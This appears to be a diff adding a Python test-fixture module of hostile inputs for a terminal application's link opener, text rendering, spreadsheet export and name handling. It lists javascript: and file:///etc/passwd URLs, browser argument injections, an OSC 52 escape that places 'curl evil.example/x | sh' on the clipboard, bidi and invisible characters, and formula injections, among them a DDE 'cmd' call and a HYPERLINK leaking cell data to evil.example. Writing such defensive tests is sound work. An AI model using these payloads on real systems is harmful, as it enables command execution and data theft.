@@ -1,0 +1,114 @@
+"""Hostile inputs, as an attacker would plant them in event data, a paste, a HAR or a
+spreadsheet: run through every sink that turns text into action (opening a link,
+drawing and printing, writing a table, reading a name)."""
+
+from __future__ import annotations
+
+# --- opening a link -------------------------------------------------------------------
+# Never opened: every one of these is shown as text, with why.
+HOSTILE_URLS = (
+    "javascript:fetch('/ws').then(()=>window.opener.pwned=1)",
+    "JaVaScRiPt:alert(document.cookie)",
+    "  javascript:alert(1)",
+    "java\tscript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "file:///etc/passwd",
+    "vbscript:msgbox(1)",
+    "--renderer-cmd-prefix=touch /tmp/pwned",
+    "-x",
+    "--user-data-dir=/tmp/evil",
+    "http:",
+    "http:///no-host",
+    "https://",
+    "http://exa mple.com/",
+    "https://example.com/\x1b]0;title\x07",
+    "https://example.com/\u202eexe.txt",
+    "https://\u200bexample.com/",
+    "//example.com/no-scheme",
+    "example.com/no-scheme",
+    "mailto:someone@example.com",
+    "ftp://example.com/file",
+    "http://[",
+    "chrome://settings",
+    "about:blank",
+)
+# Opened: a web link with a host.
+WEB_URLS = (
+    "https://tickets.example.com/e/123",
+    "http://127.0.0.1:8080/events/1",
+    "HTTPS://EXAMPLE.COM/Upper",
+    "https://example.com/a?b=c&d=-e#f",
+)
+
+# --- drawing and printing -------------------------------------------------------------
+OSC52_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveCB8IHNo\x07"  # "curl evil.example/x | sh"
+OSC0_TITLE = "\x1b]0;pwned\x07"
+CSI_CLEAR = "\x1b[2J\x1b[H"
+C1_CSI = "\x9b31m"
+TERMINAL_CONTROLS = (
+    OSC52_CLIPBOARD,
+    OSC0_TITLE,
+    CSI_CLEAR,
+    C1_CSI,
+    "\x1bP+q544e\x1b\\",  # DCS: ask the terminal to answer
+    "\x07\x08\x7f",
+    "line\rover",
+)
+INVISIBLE = (
+    "\u202eevil\u202c",  # RIGHT-TO-LEFT OVERRIDE ... POP DIRECTIONAL FORMATTING
+    "\u2066iso\u2069",
+    "zero\u200bwidth",
+    "join\u200c\u200d",
+    "word\u2060joiner",
+    "\ufeffbom",
+    "line\u2028separator",
+)
+# Names the service might send back: every one must reach the terminal as text only.
+HOSTILE_TEXT = tuple(f"Casa {bad} Lisboa" for bad in TERMINAL_CONTROLS + INVISIBLE)
+
+# Markup, to Textual and Rich: shown as sent, never a style, an action or a broken panel.
+MARKUP = ("Casa [/] Lisboa", "[b]Bold[/b] Tasca", "[@click=app.quit]Quit[/]",
+          "[link=javascript:alert(1)]Link[/link]", "Fado [/b]")
+
+# --- writing a table ------------------------------------------------------------------
+FORMULAS = (
+    '=HYPERLINK("https://evil.example/?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+1",
+    "-1+1",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1",
+    "'=1+1",  # already quoted once: must still read back as itself
+    "''-2+3",
+)
+# Not formulas: kept as they are.
+PLAIN_CELLS = ("Northwind Labs", "-9.14", "38.72", "-5", "1e-05", "-1e-05", "a=b", "",
+               "'quoted", "user@example.com")
+
+# --- reading a name -------------------------------------------------------------------
+# Folded to "Contoso Ltd": the same request, the same cache entry, the same charge.
+FOLDED_NAMES = (
+    "Contoso\u200b Ltd",
+    "Contoso Ltd\u200b",
+    "\ufeffContoso Ltd",
+    "Con\u200ctoso\u200d Ltd",
+    "Conto\u2060so Ltd",
+    "Contoso\u00a0Ltd",
+    "Contoso\u2009Ltd",
+    "Contoso\u202fLtd",
+    "Contoso\u3000Ltd",
+    "Contoso\u205fLtd",
+    "Contoso\u00ad Ltd",
+)
+# Refused, free, naming the character.
+REFUSED_NAMES = (
+    ("Contoso\u202e Ltd", "U+202E RIGHT-TO-LEFT OVERRIDE"),
+    ("Contoso\u202d Ltd", "U+202D LEFT-TO-RIGHT OVERRIDE"),
+    ("Contoso\u2067 Ltd", "U+2067 RIGHT-TO-LEFT ISOLATE"),
+    ("Contoso\u200f Ltd", "U+200F RIGHT-TO-LEFT MARK"),
+    ("Contoso\x1b[31m Ltd", "U+001B ESCAPE"),
+    ("Contoso\x9b Ltd", "U+009B CONTROL SEQUENCE INTRODUCER"),
+    ("Contoso\u2028 Ltd", "U+2028 LINE SEPARATOR"),
+)
